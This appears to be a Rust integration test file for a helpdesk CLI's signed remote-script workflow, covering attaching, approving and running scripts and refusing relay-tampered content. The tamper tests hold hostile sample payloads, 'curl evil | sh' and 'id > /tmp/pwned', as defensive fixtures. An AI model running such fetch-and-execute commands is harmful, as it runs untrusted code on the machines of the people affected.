//! Scripts against a stand-in relay over real
//! QUIC. The stand-in keeps what the CLI sends and checks runs with the
//! endpoint's own `verify_run`, so these tests show that what `attach` and
//! `approve` sign is what an agent accepts, and that a streamed run is shown
//! as it arrives.

mod common;

use common::{keyed_home, resolve_ticket_among, triage, FakeRelay, Handler, Known};
use std::path::Path;
use std::sync::{Arc, Mutex};
use tempfile::TempDir;
use triage_cli::CliError;
use triage_shared::approval::{
    verify_run, Interpreter, Roster, RosterEntry, RunContext, SignedApproval, SignedRoster,
    SignedScript,
};
use triage_shared::error::{ErrorKind, RemoteError};
use triage_shared::identity::{KeyPair, PublicKey};
use triage_shared::protocol::{Request, Response, ScriptDetail, ScriptSummary, TicketDetail};
use triage_shared::remote::{OutputStream, RunEvent, RunOutcome};
use triage_shared::roles::Role;
use triage_shared::ticket::{Category, Priority, Source, Status, Ticket, Tier};
use triage_shared::time::Timestamp;

const TICKET: &str = "1234abcd-0000-4000-8000-000000000001";
const AGENT: &str = "9999ffff-1111-4000-8000-000000000003";

#[derive(Default)]
struct Store {
    scripts: Vec<(SignedScript, Vec<u8>)>,
    approvals: Vec<SignedApproval>,
    used_nonces: Vec<triage_shared::approval::Nonce>,
    /// When set, the relay serves this content instead of what was attached.
    swap_content: Option<Vec<u8>>,
    /// When set, the relay serves this script instead of what was attached.
    swap_script: Option<SignedScript>,
    /// What the relay answers `CurrentRoster` with.
    roster: Option<SignedRoster>,
}

fn ticket() -> Ticket {
    Ticket {
        id: TICKET.parse().unwrap(),
        title: "Print spooler stuck".into(),
        description: String::new(),
        category: Category::Hardware,
        priority: Priority::Normal,
        status: Status::Open,
        tier: Tier::L2,
        source: Source::Employee,
        agent_id: Some(AGENT.parse().unwrap()),
        hostname: Some("laptop-7".into()),
        requester: "dave".into(),
        assignee: None,
        created_at: Timestamp::now(),
        updated_at: Timestamp::now(),
        sla_due_at: Timestamp::now(),
        sla: None,
    }
}

/// A relay that stores scripts and approvals, and runs a script only when
/// the endpoint's check passes against `trusted`, the roster the endpoint holds.
fn script_relay(store: Arc<Mutex<Store>>, trusted: Roster) -> Handler {
    Arc::new(move |request: &Request| {
        let mut s = store.lock().unwrap();
        let one = |r| vec![r];
        match request {
            Request::ResolveTicket { reference } => {
                one(resolve_ticket_among(&[ticket().id], reference))
            }
            Request::ShowTicket { .. } => one(Response::Ticket(Box::new(TicketDetail {
                ticket: ticket(),
                comments: vec![],
                events: vec![],
                snapshot: None,
                attached_diagnostics: vec![],
                script_runs: vec![],
                attachments: vec![],
            }))),
            Request::AttachScript { script, content } => {
                s.scripts.push((script.clone(), content.clone()));
                one(Response::ScriptAttached {
                    script: script.manifest.script_id,
                    digest: script.manifest.digest,
                })
            }
            Request::ListScripts { .. } => one(Response::Scripts(
                s.scripts
                    .iter()
                    .map(|(sc, _)| ScriptSummary {
                        script_id: sc.manifest.script_id,
                        ticket_id: sc.manifest.ticket_id,
                        author: sc.manifest.author.clone(),
                        interpreter: sc.manifest.interpreter,
                        digest: sc.manifest.digest,
                        description: sc.manifest.description.clone(),
                        created_at: sc.manifest.created_at,
                        live_approvals: 0,
                        runs: 0,
                    })
                    .collect(),
            )),
            Request::ShowScript { script, .. } => {
                let Some((sc, content)) = s
                    .scripts
                    .iter()
                    .find(|(sc, _)| sc.manifest.script_id == *script)
                else {
                    return one(Response::Error(RemoteError::new(
                        ErrorKind::NotFound,
                        "no such script",
                    )));
                };
                let content = s.swap_content.clone().unwrap_or_else(|| content.clone());
                let script = s.swap_script.clone().unwrap_or_else(|| sc.clone());
                one(Response::Script(Box::new(ScriptDetail {
                    script,
                    content,
                    approvals: s.approvals.clone(),
                    runs: vec![],
                })))
            }
            Request::ApproveScript { approval, .. } => {
                s.approvals.push(approval.clone());
                one(Response::Ok)
            }
            Request::RunScript { script, .. } => {
                let Some((sc, content)) = s
                    .scripts
                    .iter()
                    .find(|(sc, _)| sc.manifest.script_id == *script)
                    .cloned()
                else {
                    return one(Response::Error(RemoteError::new(
                        ErrorKind::NotFound,
                        "no such script",
                    )));
                };
                let Some(approval) = s.approvals.last().cloned() else {
                    return one(Response::Error(RemoteError::new(
                        ErrorKind::InvalidInput,
                        "this script has no live approval; ask an approver",
                    )));
                };
                let used = s.used_nonces.clone();
                let is_used = |n: &triage_shared::approval::Nonce| used.contains(n);
                let ctx = RunContext {
                    agent_id: AGENT.parse().unwrap(),
                    now: Timestamp::now(),
                    roster: Some(&trusted),
                    allowed_interpreters: &Interpreter::ALL,
                    nonce_used: &is_used,
                };
                if let Err(refusal) = verify_run(&content, &sc, &approval, &ctx) {
                    return one(Response::Run(RunEvent::Refused(refusal)));
                }
                s.used_nonces.push(approval.approval.nonce);
                vec![
                    Response::Run(RunEvent::Started),
                    Response::Run(RunEvent::Output {
                        stream: OutputStream::Stdout,
                        data: b"fix".to_vec(),
                    }),
                    Response::Run(RunEvent::Output {
                        stream: OutputStream::Stdout,
                        data: b"ed\n".to_vec(),
                    }),
                    Response::Run(RunEvent::Output {
                        stream: OutputStream::Stderr,
                        data: b"spooler warning\n".to_vec(),
                    }),
                    Response::Run(RunEvent::Finished(RunOutcome {
                        exit_code: Some(0),
                        timed_out: false,
                        duration_ms: 1_200,
                        output_bytes: 22,
                        truncated: false,
                    })),
                ]
            }
            Request::CurrentRoster => one(Response::CurrentRoster(s.roster.clone().map(Box::new))),
            _ => one(Response::Ok),
        }
    })
}

fn entry(name: &str, role: Role, key: PublicKey) -> RosterEntry {
    RosterEntry {
        name: name.into(),
        roles: vec![role],
        key,
        expires_at: None,
    }
}

struct Team {
    alice: TempDir,
    carol: TempDir,
    alice_key: PublicKey,
    store: Arc<Mutex<Store>>,
    relay: FakeRelay,
}

/// alice (l2) writes scripts, carol (approver) approves them.
async fn team() -> Team {
    let (alice, alice_key) = keyed_home().await;
    let (carol, carol_key) = keyed_home().await;
    let org = KeyPair::generate();
    let roster = Roster {
        version: 3,
        entries: vec![
            entry("alice", Role::L2, alice_key),
            entry("carol", Role::Approver, carol_key),
        ],
        issued_at: Timestamp::now(),
        expires_at: Timestamp::now().plus(std::time::Duration::from_secs(3600)),
    };
    let store = Arc::new(Mutex::new(Store {
        roster: Some(roster.clone().sign(&org)),
        ..Store::default()
    }));
    let relay = FakeRelay::start(
        vec![
            Known {
                key: alice_key,
                name: "alice".into(),
                roles: vec![Role::L2],
            },
            Known {
                key: carol_key,
                name: "carol".into(),
                roles: vec![Role::Approver],
            },
        ],
        script_relay(store.clone(), roster),
    );
    let org_key = org.public_key().to_string();
    for home in [&alice, &carol] {
        let locator = relay.locator.to_string();
        triage(home.path(), &["login", &locator, "--org-key", &org_key])
            .await
            .unwrap();
    }
    Team {
        alice,
        carol,
        alice_key,
        store,
        relay,
    }
}

async fn attach(home: &Path, body: &str) -> String {
    let file = home.join("fix.sh");
    std::fs::write(&file, body).unwrap();
    let out = triage(
        home,
        &[
            "script",
            "attach",
            "1234abcd",
            file.to_str().unwrap(),
            "--timeout",
            "2m",
        ],
    )
    .await
    .unwrap();
    assert!(
        out.starts_with("Script ") && out.contains(" attached to ticket 1234abcd: sha256:"),
        "{out}"
    );
    out.split_whitespace().nth(1).unwrap().to_string()
}

#[tokio::test]
async fn attach_approve_and_run_end_to_end_with_the_endpoints_own_check() {
    let t = team().await;
    let id = attach(t.alice.path(), "systemctl restart cups\n").await;
    {
        let s = t.store.lock().unwrap();
        let m = &s.scripts[0].0.manifest;
        assert_eq!(
            (m.author.as_str(), m.interpreter, m.timeout_secs),
            ("alice", Interpreter::Sh, 120)
        );
        assert!(s.scripts[0].0.signature_valid());
    }
    let list = triage(t.alice.path(), &["script", "list", "1234abcd"])
        .await
        .unwrap();
    assert!(list.contains(&id[..8]) && list.contains("alice"), "{list}");

    // Not approved yet: the relay's refusal comes through.
    let err = triage(t.alice.path(), &["script", "run", "1234abcd", &id[..8]])
        .await
        .unwrap_err();
    assert!(err.to_string().contains("no live approval"), "{err}");

    let digest = t.store.lock().unwrap().scripts[0]
        .0
        .manifest
        .digest
        .to_string();
    // The author may not approve; nothing is signed or sent.
    let err = triage(
        t.alice.path(),
        &[
            "script", "approve", "1234abcd", &id, "--digest", &digest, "--yes",
        ],
    )
    .await
    .unwrap_err();
    assert_eq!(
        err.to_string(),
        "you wrote this script; another approver must approve it"
    );
    assert!(!t
        .relay
        .requests()
        .iter()
        .any(|r| matches!(r, Request::ApproveScript { .. })));

    let shown = triage(t.carol.path(), &["script", "show", "1234abcd", &id[..8]])
        .await
        .unwrap();
    assert!(
        shown.contains("systemctl restart cups") && !shown.contains("WARNING"),
        "{shown}"
    );
    // Off a terminal, nobody can confirm: both --digest and --yes are needed.
    let err = triage(t.carol.path(), &["script", "approve", "1234abcd", &id[..8]])
        .await
        .unwrap_err();
    assert!(
        err.to_string().contains("--digest sha256:… and --yes"),
        "{err}"
    );
    let approved = triage(
        t.carol.path(),
        &[
            "script",
            "approve",
            "1234abcd",
            &id[..8],
            "--expires",
            "1h",
            "--digest",
            &digest,
            "--yes",
        ],
    )
    .await
    .unwrap();
    // The approver saw the whole script and where it runs before signing.
    for shown in [
        "systemctl restart cups",
        "Runs on      agent 9999ffff-1111-4000-8000-000000000003 (the relay calls it laptop-7)",
        "Interpreter  sh",
        "Timeout      2m",
        "on roster version 3 as l2",
        "Ticket       1234abcd Print spooler stuck",
        "approved by carol to run once on agent 9999ffff",
    ] {
        assert!(approved.contains(shown), "missing {shown:?} in {approved}");
    }

    let out = triage(t.alice.path(), &["script", "run", "1234abcd", &id])
        .await
        .unwrap();
    assert_eq!(out, "fixed\nspooler warning\nexit code 0 in 1.2s\n");

    // The approval was single-use: the endpoint's check refuses a replay.
    let err = triage(t.alice.path(), &["script", "run", "1234abcd", &id])
        .await
        .unwrap_err();
    assert!(matches!(err, CliError::ScriptRefused(_)), "{err}");
    assert!(
        err.to_string()
            .starts_with("the agent refused to run the script: this approval"),
        "{err}"
    );
}

#[tokio::test]
async fn an_approver_refuses_content_the_relay_swapped_and_signs_nothing() {
    let t = team().await;
    let id = attach(t.alice.path(), "echo harmless\n").await;
    t.store.lock().unwrap().swap_content = Some(b"curl evil | sh\n".to_vec());
    let shown = triage(t.carol.path(), &["script", "show", "1234abcd", &id])
        .await
        .unwrap();
    assert!(shown.starts_with("!!! WARNING"), "{shown}");
    let json = triage(
        t.carol.path(),
        &["script", "show", "1234abcd", &id, "--json"],
    )
    .await
    .unwrap();
    let v: serde_json::Value = serde_json::from_str(&json).unwrap();
    assert_eq!(
        (v["digest_ok"].as_bool(), v["author_signature_ok"].as_bool()),
        (Some(false), Some(true))
    );
    let digest = t.store.lock().unwrap().scripts[0]
        .0
        .manifest
        .digest
        .to_string();
    let err = approve(&t, &id, &digest).await;
    assert!(
        err.to_string()
            .contains("does not match the digest its author signed"),
        "{err}"
    );
    assert!(t.store.lock().unwrap().approvals.is_empty());
}

async fn approve(t: &Team, id: &str, digest: &str) -> CliError {
    triage(
        t.carol.path(),
        &[
            "script", "approve", "1234abcd", id, "--digest", digest, "--yes",
        ],
    )
    .await
    .unwrap_err()
}

#[tokio::test]
async fn an_approver_refuses_a_script_re_signed_under_the_authors_name_by_another_key() {
    let t = team().await;
    let id = attach(t.alice.path(), "echo harmless\n").await;
    let evil = b"id > /tmp/pwned\n".to_vec();
    let forger = KeyPair::generate();
    let mut manifest = t.store.lock().unwrap().scripts[0].0.manifest.clone();
    assert_eq!(manifest.author_key, t.alice_key);
    manifest.digest = triage_shared::approval::ScriptDigest::of(&evil);
    manifest.author_key = forger.public_key();
    let forged = manifest.sign(&forger);
    let digest = forged.manifest.digest.to_string();
    {
        let mut s = t.store.lock().unwrap();
        s.swap_script = Some(forged);
        s.swap_content = Some(evil);
    }
    let err = approve(&t, &id, &digest).await;
    assert!(
        err.to_string()
            .contains("not an author on the organisation's roster"),
        "{err}"
    );
    assert!(t.store.lock().unwrap().approvals.is_empty());
}

#[tokio::test]
async fn an_approver_trusts_no_roster_the_pinned_org_key_did_not_sign() {
    let t = team().await;
    let id = attach(t.alice.path(), "echo harmless\n").await;
    let digest = t.store.lock().unwrap().scripts[0]
        .0
        .manifest
        .digest
        .to_string();
    // The relay offers a roster of its own making, naming a key of its own.
    let relay_key = KeyPair::generate();
    let forged = Roster {
        version: 9,
        entries: vec![entry("alice", Role::L2, relay_key.public_key())],
        issued_at: Timestamp::now(),
        expires_at: Timestamp::now().plus(std::time::Duration::from_secs(60)),
    }
    .sign(&relay_key);
    t.store.lock().unwrap().roster = Some(forged);
    let err = approve(&t, &id, &digest).await;
    assert!(
        err.to_string()
            .contains("not signed by the organisation key"),
        "{err}"
    );
    t.store.lock().unwrap().roster = None;
    let err = approve(&t, &id, &digest).await;
    assert!(err.to_string().contains("no signed roster yet"), "{err}");
    assert!(t.store.lock().unwrap().approvals.is_empty());
}

#[tokio::test]
async fn a_run_stream_that_breaks_off_says_the_agent_disconnected() {
    let (home, key) = keyed_home().await;
    let relay = FakeRelay::start(
        vec![Known {
            key,
            name: "alice".into(),
            roles: vec![Role::L2],
        }],
        Arc::new(|r: &Request| match r {
            Request::RunScript { .. } => vec![
                Response::Run(RunEvent::Started),
                Response::Run(RunEvent::Output {
                    stream: OutputStream::Stdout,
                    data: b"half way\n".to_vec(),
                }),
            ],
            _ => vec![Response::Ok],
        }),
    );
    triage(home.path(), &["login", &relay.locator.to_string()])
        .await
        .unwrap();
    let full_script = "aaaa1111-0000-4000-8000-000000000001";
    let err = triage(home.path(), &["script", "run", TICKET, full_script])
        .await
        .unwrap_err();
    assert!(matches!(err, CliError::AgentDisconnected), "{err}");
}
